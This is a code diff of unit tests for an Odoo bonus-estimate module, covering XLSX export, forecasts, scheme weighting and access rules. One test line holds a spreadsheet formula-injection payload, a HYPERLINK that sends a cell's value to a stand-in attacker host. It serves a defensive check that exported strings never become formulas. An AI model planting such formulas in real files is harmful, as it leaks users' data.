@@ -6,6 +6,7 @@ import io
 import openpyxl
 from freezegun import freeze_time
 
+from odoo import Command
 from odoo.addons.kpi_management.report.bonus_xlsx import build_bonus_xlsx
 from odoo.exceptions import AccessError
 from odoo.tests import HttpCase
@@ -133,7 +134,8 @@ class TestBonusPreview(BonusCase):
     def test_preview_wizard_opens_for_the_salesperson(self):
         action = self.env["kpi.bonus.preview"].with_user(self.salesman).action_open_my_estimate()
         wizard = self.env["kpi.bonus.preview"].browse(action["res_id"])
-        self.assertEqual(wizard.scheme_id, self.scheme)
+        self.assertEqual(wizard.estimate_ids.scheme_id, self.scheme)
+        self.assertEqual(wizard.display_name, "My Bonus Estimate")
         self.assertEqual(len(wizard.line_ids), 3)
         self.assertTrue(wizard.line_ids.filtered(lambda ln: ln.hint))
 
@@ -152,6 +154,10 @@ class TestBonusXlsx(BonusCase):
              "note": "Paid for 15 of the 30 days of the period.",
              "kpis": [{"value": 100000, "target": 200000, "score": 50, "weight": 100}],
              "total_score": 50, "amount": 0},
+            {"name": "Vera", "login": "vera", "profile": "Sales", "team": "Team A",
+             "note": "Nothing to measure for Net profit (100%).",
+             "kpis": [{"value": 0, "target": 200000, "score": 0, "weight": 0, "no_data": True}],
+             "total_score": 0, "amount": 0},
         ]
         content = build_bonus_xlsx(header, ["Net profit"], rows)
         ws = openpyxl.load_workbook(io.BytesIO(content), data_only=True).active
@@ -159,8 +165,8 @@ class TestBonusXlsx(BonusCase):
         header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
         titles = [c.value for c in ws[header_row]]
         self.assertEqual(titles[:10], ["Employee", "Login", "Profile", "Sales Team",
-                                       "Part of the Period", "Net profit: Value", "Net profit: Target",
-                                       "Net profit: Score (%)", "Net profit: Weight (%)",
+                                       "Notes", "Net profit: Value", "Net profit: Target",
+                                       "Net profit: Score (%)", "Net profit: Weight Used (%)",
                                        "Weighted Score (%)"])
         first = ws[header_row + 1]
         self.assertEqual([c.value for c in first], ["Valery", "valery", "Sales", "Team A",
@@ -170,11 +176,15 @@ class TestBonusXlsx(BonusCase):
         self.assertIn("EUR", first[10].number_format)
         self.assertEqual(ws[header_row + 2][4].value,
                          "Paid for 15 of the 30 days of the period.")
-        totals = ws[header_row + 3]
+        # nothing to measure: said in words, never a 0 that looks measured
+        self.assertEqual([c.value for c in ws[header_row + 3]][4:9],
+                         ["Nothing to measure for Net profit (100%).", "no data", 200000,
+                          "no data", 0])
+        totals = ws[header_row + 4]
         self.assertEqual(totals[0].value, "Total")
-        self.assertEqual((totals[9].value, totals[10].value), (87.5, 6250.5))
+        self.assertEqual((totals[9].value, totals[10].value), (175 / 3, 6250.5))
         self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
-        self.assertEqual(ws.auto_filter.ref, "A%s:K%s" % (header_row, header_row + 2))
+        self.assertEqual(ws.auto_filter.ref, "A%s:K%s" % (header_row, header_row + 3))
 
     def test_strings_are_never_formulas(self):
         evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -246,73 +256,153 @@ class TestBonusExportRoute(BonusCase, HttpCase):
 
 @freeze_time(NOW)
 class TestBonusEstimateForecast(BonusCase):
-    """My KPIs' bonus panel: today's estimate and the forecast to the end of the month."""
+    """My KPIs' bonus panel: the sheet of the scheme's period computed early, and its
+    forecast at the period's end (README, *Bonuses*)."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        # a second scheme of the same profile: a snapshot KPI and a ratio
+        cls.rule_pipeline = cls.make_rule("open_pipeline", name="Open pipeline", target=100000)
+        cls.rule_conversion = cls.make_rule("conversion_rate", name="Conversion", target=30,
+                                            window_days=30)
+        cls.pipeline_scheme = cls.env["kpi.bonus.scheme"].create({
+            "name": "Pipeline bonus",
+            "profile_ids": [Command.set(cls.profile_sales.ids)],
+            "base_amount": 2000,
+            "line_ids": [
+                Command.create({"rule_id": cls.rule_pipeline.id, "weight": 60}),
+                Command.create({"rule_id": cls.rule_conversion.id, "weight": 40}),
+            ],
+        })
 
     def _result(self, rule, day, value, target, score, user=None):
         self.env["kpi.result"].create({"rule_id": rule.id, "user_id": (user or self.salesman).id,
                                        "date": day, "value": value, "target": target,
-                                       "score": score})
+                                       "score": score, "status": "reached"})
+
+    def preview(self, user, scheme, viewer=None, **context):
+        Scheme = self.env["kpi.bonus.scheme"].with_user(viewer or user).with_context(**context)
+        data = {p["scheme"]: p for p in Scheme.get_bonus_preview(user.id)}
+        return data[scheme.name]
 
     def setUp(self):
         super().setUp()
-        # sales volume: 0 on 1 Nov, 55,000 on 12 Nov, 110,000 today (23 Nov): +5,000 a day
-        self._result(self.rule_volume, "2026-11-01", 0, 110000, 0)
-        self._result(self.rule_volume, "2026-11-12", 55000, 110000, 50)
-        self._result(self.rule_volume, TODAY, 110000, 110000, 100)
-        # new clients: 0 on 1 Nov, 1 today; 5 on 31 October is another month (not fitted)
-        self._result(self.rule_new, "2026-10-31", 5, 2, 200)
-        self._result(self.rule_new, "2026-11-01", 0, 2, 0)
-        self._result(self.rule_new, TODAY, 1, 2, 50)
-        # customer service: the manager's 80% on the latest sheet (not forecast)
-        self.assess(self.new_sheet(), self.salesman, self.manager, 80)
+        # won in November (Copenhagen): 55,000 on the 5th and on the 20th, a new client on
+        # the 12th; 40,000 on 28 October is in the rolling 30-day window, not in the period
+        self.won_lead(self.salesman, self.local(2026, 11, 5, 10), revenue=55000)
+        self.won_lead(self.salesman, self.local(2026, 11, 20, 10), revenue=55000)
+        self.won_lead(self.salesman, self.local(2026, 10, 28, 10), revenue=40000,
+                      partner=self.client("October client"))
+        self.won_lead(self.salesman, self.local(2026, 11, 12, 10), revenue=0,
+                      partner=self.client("November client"))
+        (self.rule_volume | self.rule_new).evaluate()
+        # the November sheet: the manager assessed 80% (a draft: salespeople cannot read it)
+        self.november = self.new_sheet(period_type="month", date_from="2026-11-01")
+        self.assess(self.november, self.salesman, self.manager, 80)
 
-    def test_estimate_today_and_at_month_end(self):
-        Scheme = self.env["kpi.bonus.scheme"].with_user(self.salesman)
-        [preview] = Scheme.get_bonus_preview()
-        self.assertTrue(preview["estimate"])
-        self.assertEqual((preview["period"], preview["period_start"], preview["period_end"]),
+    def test_the_estimate_measures_the_period_like_the_sheet(self):
+        """Before: the rolling 30-day results (the October deal included, 150,000) and the
+        draft sheet's assessment read as superuser."""
+        rolling = self.result(self.rule_volume, self.salesman)
+        self.assertEqual(rolling.value, 150000)  # what the estimate used to show
+        estimate = self.preview(self.salesman, self.scheme)
+        self.assertEqual((estimate["period"], estimate["period_start"], estimate["period_end"]),
                          ("month", "2026-11-01", "2026-11-30"))
-        lines = {line["name"]: line for line in preview["lines"]}
+        lines = {line["name"]: line for line in estimate["lines"]}
         volume, new, service = (lines["Sales volume"], lines["New clients"],
                                 lines["Customer service"])
-        # today: 100 x 30% + 50 x 30% + 80 x 40% = 30 + 15 + 32 = 77 -> payout 54% of 10,000
-        self.assertEqual((preview["total_score"], preview["payout_percent"], preview["amount"]),
-                         (77.0, 54.0, 5400.0))
-        self.assertEqual((volume["score"], volume["weight"], volume["contribution"],
-                          volume["amount"]), (100.0, 30, 30.0, 2103.9))  # 5,400 x 30 / 77
-        self.assertEqual((new["value"], new["score"], new["contribution"], new["amount"]),
-                         (1, 50.0, 15.0, 1051.95))
-        self.assertEqual((service["score"], service["contribution"], service["amount"]),
-                         (80.0, 32.0, 2244.16))
-        # 1 more new client: 30 + 30 + 32 = 92 -> 84% = 8,400: +3,000
-        self.assertEqual((new["hint"]["delta"], new["hint"]["amount_delta"]), (1, 3000))
-        self.assertIn("3,000.00", new["hint"]["text"])
-        self.assertTrue(new["hint"]["text"].startswith("New clients: 1 more →"), new["hint"]["text"])
-        # forecast to 30 November (x = 29 days after the 1st):
-        # volume 5,000 x 29 = 145,000 -> 131.82%; new clients 29 / 22 = 1.32 -> 66%
-        self.assertEqual((volume["forecast"]["value"], volume["forecast"]["score"],
-                          volume["forecast"]["points"]), (145000, 131.82, 3))
-        self.assertEqual((new["forecast"]["value"], new["forecast"]["score"],
-                          new["forecast"]["points"]), (1.32, 66.0, 2))
-        self.assertEqual((service["forecast"]["score"], service["forecast"]["forecast"]),
-                         (80.0, False))
-        # 39.546 + 19.8 + 32 = 91.35 -> payout 82.7% -> 8,270
-        forecast = preview["forecast"]
-        self.assertEqual((forecast["date"], forecast["total_score"], forecast["amount"]),
-                         ("2026-11-30", 91.35, 8270.0))
-        self.assertAlmostEqual(forecast["payout_percent"], 82.7)
-        self.assertEqual(volume["forecast"]["contribution"], 39.546)
-        self.assertEqual(volume["forecast"]["amount"], 3580.14)  # 8,270 x 39.546 / 91.35
-        self.assertEqual(new["forecast"]["amount"], 1792.51)  # 8,270 x 19.8 / 91.35
-        # the shares are of the rounded total (91.35, not 91.346): within a few cents
-        self.assertAlmostEqual(sum(ln["forecast"]["amount"] for ln in preview["lines"]),
-                               8270.0, delta=0.5)
+        self.assertEqual((volume["method"], volume["value"], volume["score"]),
+                         ("period", 110000, 100.0))
+        self.assertEqual((new["value"], new["score"]), (1, 50.0))  # October's client is old
+        # the salesperson may not read the draft sheet's assessment: not assessed yet, 0
+        self.assertEqual((service["assessed"], service["score"]), (False, 0.0))
+        # 100 x 30% + 50 x 30% + 0 = 45 -> below the curve's 50%: nothing yet
+        self.assertEqual((estimate["total_score"], estimate["amount"]), (45.0, 0))
+        # the team manager may read it: 30 + 15 + 32 = 77 -> 54% of 10,000
+        managed = self.preview(self.salesman, self.scheme, viewer=self.manager)
+        managed_service = next(ln for ln in managed["lines"] if ln["kind"] == "manual")
+        self.assertEqual((managed_service["assessed"], managed_service["score"]), (True, 80.0))
+        self.assertEqual((managed["total_score"], managed["amount"]), (77.0, 5400.0))
+        # one more new client: 100 x 30% more -> 60 -> 20% = 2,000 (salesperson's view)
+        self.assertEqual((new["hint"]["delta"], new["hint"]["amount_delta"]), (1, 2000))
+        # the sheet of the month, computed at its end, measures what the estimate measured
+        with freeze_time("2026-12-01 10:00:00"):
+            self.november.with_user(self.officer).action_compute()
+        detail = self.november.line_ids.filtered(
+            lambda ln: ln.user_id == self.salesman).detail_ids
+        self.assertEqual(detail.filtered(lambda d: d.name == "Sales volume").value, 110000)
+
+    def test_forecast_at_the_period_end(self):
+        estimate = self.preview(self.salesman, self.scheme, viewer=self.manager)
+        lines = {line["name"]: line for line in estimate["lines"]}
+        volume, new = lines["Sales volume"], lines["New clients"]
+        # at the pace of the 23 days so far: 110,000 x 30 / 23 = 143,478.26 -> 130.43%
+        self.assertAlmostEqual(volume["forecast"]["value"], 143478.26, places=2)
+        self.assertEqual(volume["forecast"]["score"], 130.43)
+        self.assertAlmostEqual(new["forecast"]["value"], 1.3043, places=4)
+        self.assertEqual(new["forecast"]["score"], 65.22)
+        # 39.129 + 19.566 + 32 = 90.70 -> payout 81.4% of 10,000
+        self.assertAlmostEqual(estimate["forecast"]["total_score"], 90.695, delta=0.01)
+        self.assertAlmostEqual(estimate["forecast"]["amount"], 8139.0, delta=2)
+
+    def test_a_quarterly_scheme_forecasts_to_the_quarters_end(self):
+        self.scheme.sheet_ids.unlink()
+        self.scheme.period = "quarter"
+        estimate = self.preview(self.salesman, self.scheme)
+        self.assertEqual((estimate["period_start"], estimate["period_end"]),
+                         ("2026-10-01", "2026-12-31"))
+        volume = next(ln for ln in estimate["lines"] if ln["name"] == "Sales volume")
+        # the quarter so far holds October's deal too: 150,000 over 54 of its 92 days
+        self.assertEqual(volume["value"], 150000)
+        self.assertAlmostEqual(volume["forecast"]["value"], 150000 * 92 / 54, places=2)
+
+    def test_every_scheme_snapshot_average_and_no_data(self):
+        """Both schemes of the profile (before: My Bonus Estimate showed the first only). The
+        pipeline (a snapshot) averages its daily results of the period; the conversion rate of
+        a salesperson without a closed lead has no data: its 40% goes to the pipeline."""
+        self._result(self.rule_pipeline, "2026-10-31", 500000, 100000, 200, self.salesman2)
+        self._result(self.rule_pipeline, "2026-11-01", 50000, 100000, 50, self.salesman2)
+        self._result(self.rule_pipeline, "2026-11-10", 100000, 100000, 100, self.salesman2)
+        self._result(self.rule_pipeline, TODAY, 150000, 100000, 150, self.salesman2)
+        previews = self.env["kpi.bonus.scheme"].with_user(self.salesman2).get_bonus_preview()
+        self.assertEqual([p["scheme"] for p in previews], ["Pipeline bonus", "Sales bonus"])
+        estimate = previews[0]
+        pipeline, conversion = estimate["lines"]
+        self.assertEqual((pipeline["method"], pipeline["value"], pipeline["score"]),
+                         ("average", 100000, 100.0))  # October's 500,000 is not averaged
+        self.assertEqual((conversion["no_data"], conversion["score"], conversion["value"]),
+                         (True, None, None))
+        self.assertEqual((pipeline["weight_used"], conversion["weight_used"]), (100.0, 0.0))
+        self.assertEqual(conversion["hint"], False)
+        self.assertEqual(estimate["total_score"], 100.0)  # not 60: no data is not a 0
+        self.assertEqual(estimate["amount"], 2000.0)
+        self.assertTrue(conversion["forecast"]["no_data"])
+        self.assertEqual(pipeline["forecast"]["weight_used"], 100.0)
+        # the wizard shows both schemes and says which KPI had nothing to measure
+        action = self.env["kpi.bonus.preview"].with_user(self.salesman2).action_open_my_estimate()
+        wizard = self.env["kpi.bonus.preview"].browse(action["res_id"])
+        self.assertEqual(wizard.estimate_ids.scheme_id, self.scheme | self.pipeline_scheme)
+        self.assertEqual(wizard.line_ids.filtered(lambda ln: ln.name == "Conversion").state,
+                         "no_data")
+        self.assertEqual(wizard.line_ids.filtered(lambda ln: ln.name == "Customer service").state,
+                         "not_assessed")
+
+    def test_a_manager_previews_in_the_members_timezone(self):
+        """30 November 23:30 UTC: 1 December in the manager's Copenhagen, still 30 November
+        for a member in Honolulu (before: the manager's today, December)."""
+        self.salesman.tz = "Pacific/Honolulu"
+        with freeze_time("2026-11-30 23:30:00"):
+            estimate = self.preview(self.salesman, self.scheme, viewer=self.manager,
+                                    tz=self.manager.tz)
+        self.assertEqual((estimate["date"], estimate["period_start"]),
+                         ("2026-11-30", "2026-11-01"))
 
     def test_salesperson_cannot_get_another_users_estimate(self):
         Scheme = self.env["kpi.bonus.scheme"].with_user(self.salesman2)
         with self.assertRaises(AccessError):
             Scheme.get_bonus_preview(self.salesman.id)
-        [own] = Scheme.get_bonus_preview()  # their own: no result, no assessment -> 0
+        own = self.preview(self.salesman2, self.scheme)  # no deal, no assessment -> 0
         self.assertEqual((own["amount"], own["forecast"]["amount"]), (0, 0))
         with self.assertRaises(AccessError):
             self.env["kpi.bonus.scheme"].with_user(self.kam).get_bonus_preview(self.salesman.id)
@@ -328,17 +418,11 @@ class TestBonusEstimateForecast(BonusCase):
             data = Scheme.get_bonus_preview()
             return data, self.env.cr.sql_log_count - before
 
+        self._result(self.rule_pipeline, TODAY, 100000, 100000, 100)
         short, short_count = count()
-        for day in range(2, 23):
-            if day != 12:
-                self._result(self.rule_volume, datetime.date(2026, 11, day), 5000 * (day - 1),
-                             110000, 0)
         for day in range(1, 300):
-            self._result(self.rule_new, datetime.date(2026, 10, 31) - datetime.timedelta(
-                days=day), 0, 2, 0)
+            self._result(self.rule_pipeline, TODAY - datetime.timedelta(days=day),
+                         1000 * day, 100000, 1)
         long, long_count = count()
         self.assertEqual(short_count, long_count)
-        self.assertLessEqual(long_count, 20)
-        volume = next(ln for ln in long[0]["lines"] if ln["name"] == "Sales volume")
-        self.assertEqual((volume["forecast"]["value"], volume["forecast"]["points"]),
-                         (145000, 23))
+        self.assertNotEqual(short[0]["lines"][0]["value"], long[0]["lines"][0]["value"])
